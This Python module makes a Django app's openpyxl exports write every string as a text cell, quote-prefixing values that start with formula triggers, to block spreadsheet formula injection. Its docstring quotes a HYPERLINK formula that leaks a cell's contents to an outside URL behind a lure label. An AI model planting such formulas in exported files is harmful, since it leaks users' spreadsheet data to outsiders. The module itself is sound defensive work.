"""Text in the workbooks the app writes stays text.

openpyxl turns any str that starts with "=" into a live formula (and "#N/A" into an error): a hazard
described as `=HYPERLINK("http://…/?leak="&B4, "点我查看")` became a link in every office's ledger.
Every str goes out as a string cell instead; one that Excel would read as a formula when the cell is
edited (= + - @, tab, CR) also gets the quote prefix, Excel's own "this is text" mark.
"""

from __future__ import annotations

from collections.abc import Sequence
from datetime import datetime
from typing import Any

from django.utils import timezone
from openpyxl.cell import Cell, WriteOnlyCell
from openpyxl.cell.cell import ERROR_CODES, ILLEGAL_CHARACTERS_RE
from openpyxl.styles import Font

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def as_text(cell: Cell | WriteOnlyCell) -> Cell | WriteOnlyCell:
    """Make a cell holding a str a string cell (never a formula or an error value); returns it."""
    if isinstance(cell.value, str):
        text = cell.value
        cell.data_type = "s"
        if text.startswith(FORMULA_TRIGGERS):
            cell.quotePrefix = True
    return cell


def text_cell(sheet: Any, value: str) -> WriteOnlyCell:
    """A write-only cell holding `value` as text; control characters Excel cannot store are dropped."""
    return as_text(WriteOnlyCell(sheet, value=ILLEGAL_CHARACTERS_RE.sub("", value)))


def sheet_value(sheet: Any, value: Any) -> Any:
    """`value` for a write-only sheet's append, every str landing as a string cell. openpyxl binds
    a plain str as a string unless it starts with "=" or is an error code (#N/A): only those, and
    those Excel would read as a formula when edited, need a cell of their own (cheaper at 50,000 rows)."""
    if not isinstance(value, str):
        return value
    if value.startswith(FORMULA_TRIGGERS) or value in ERROR_CODES:
        return text_cell(sheet, value)
    return ILLEGAL_CHARACTERS_RE.sub("", value)


def append_as_text(sheet: Any, values: list[Any]) -> None:
    """Append a row to a normal (not write-only) worksheet with every str written as text."""
    sheet.append([ILLEGAL_CHARACTERS_RE.sub("", value) if isinstance(value, str) else value for value in values])
    for cell in sheet[sheet.max_row]:
        as_text(cell)


def local_naive(value: datetime | None) -> datetime | None:
    """A datetime as Excel holds it: the wall-clock time of the project's zone, without a zone."""
    return timezone.localtime(value).replace(tzinfo=None) if value is not None else None


def sheet_heading(sheet: Any, title: str, header: Sequence[str]) -> None:
    """A write-only sheet's title on row 1 and its column names on row 2, both bold text; the
    panes freeze below them (a write-only sheet takes its layout before the first row)."""
    sheet.freeze_panes = "B3"
    heading: Any = text_cell(sheet, title)
    heading.font = Font(size=14, bold=True)
    sheet.append([heading])
    bold = Font(bold=True)
    cells = []
    for name in header:
        cell: Any = text_cell(sheet, name)
        cell.font = bold
        cells.append(cell)
    sheet.append(cells)
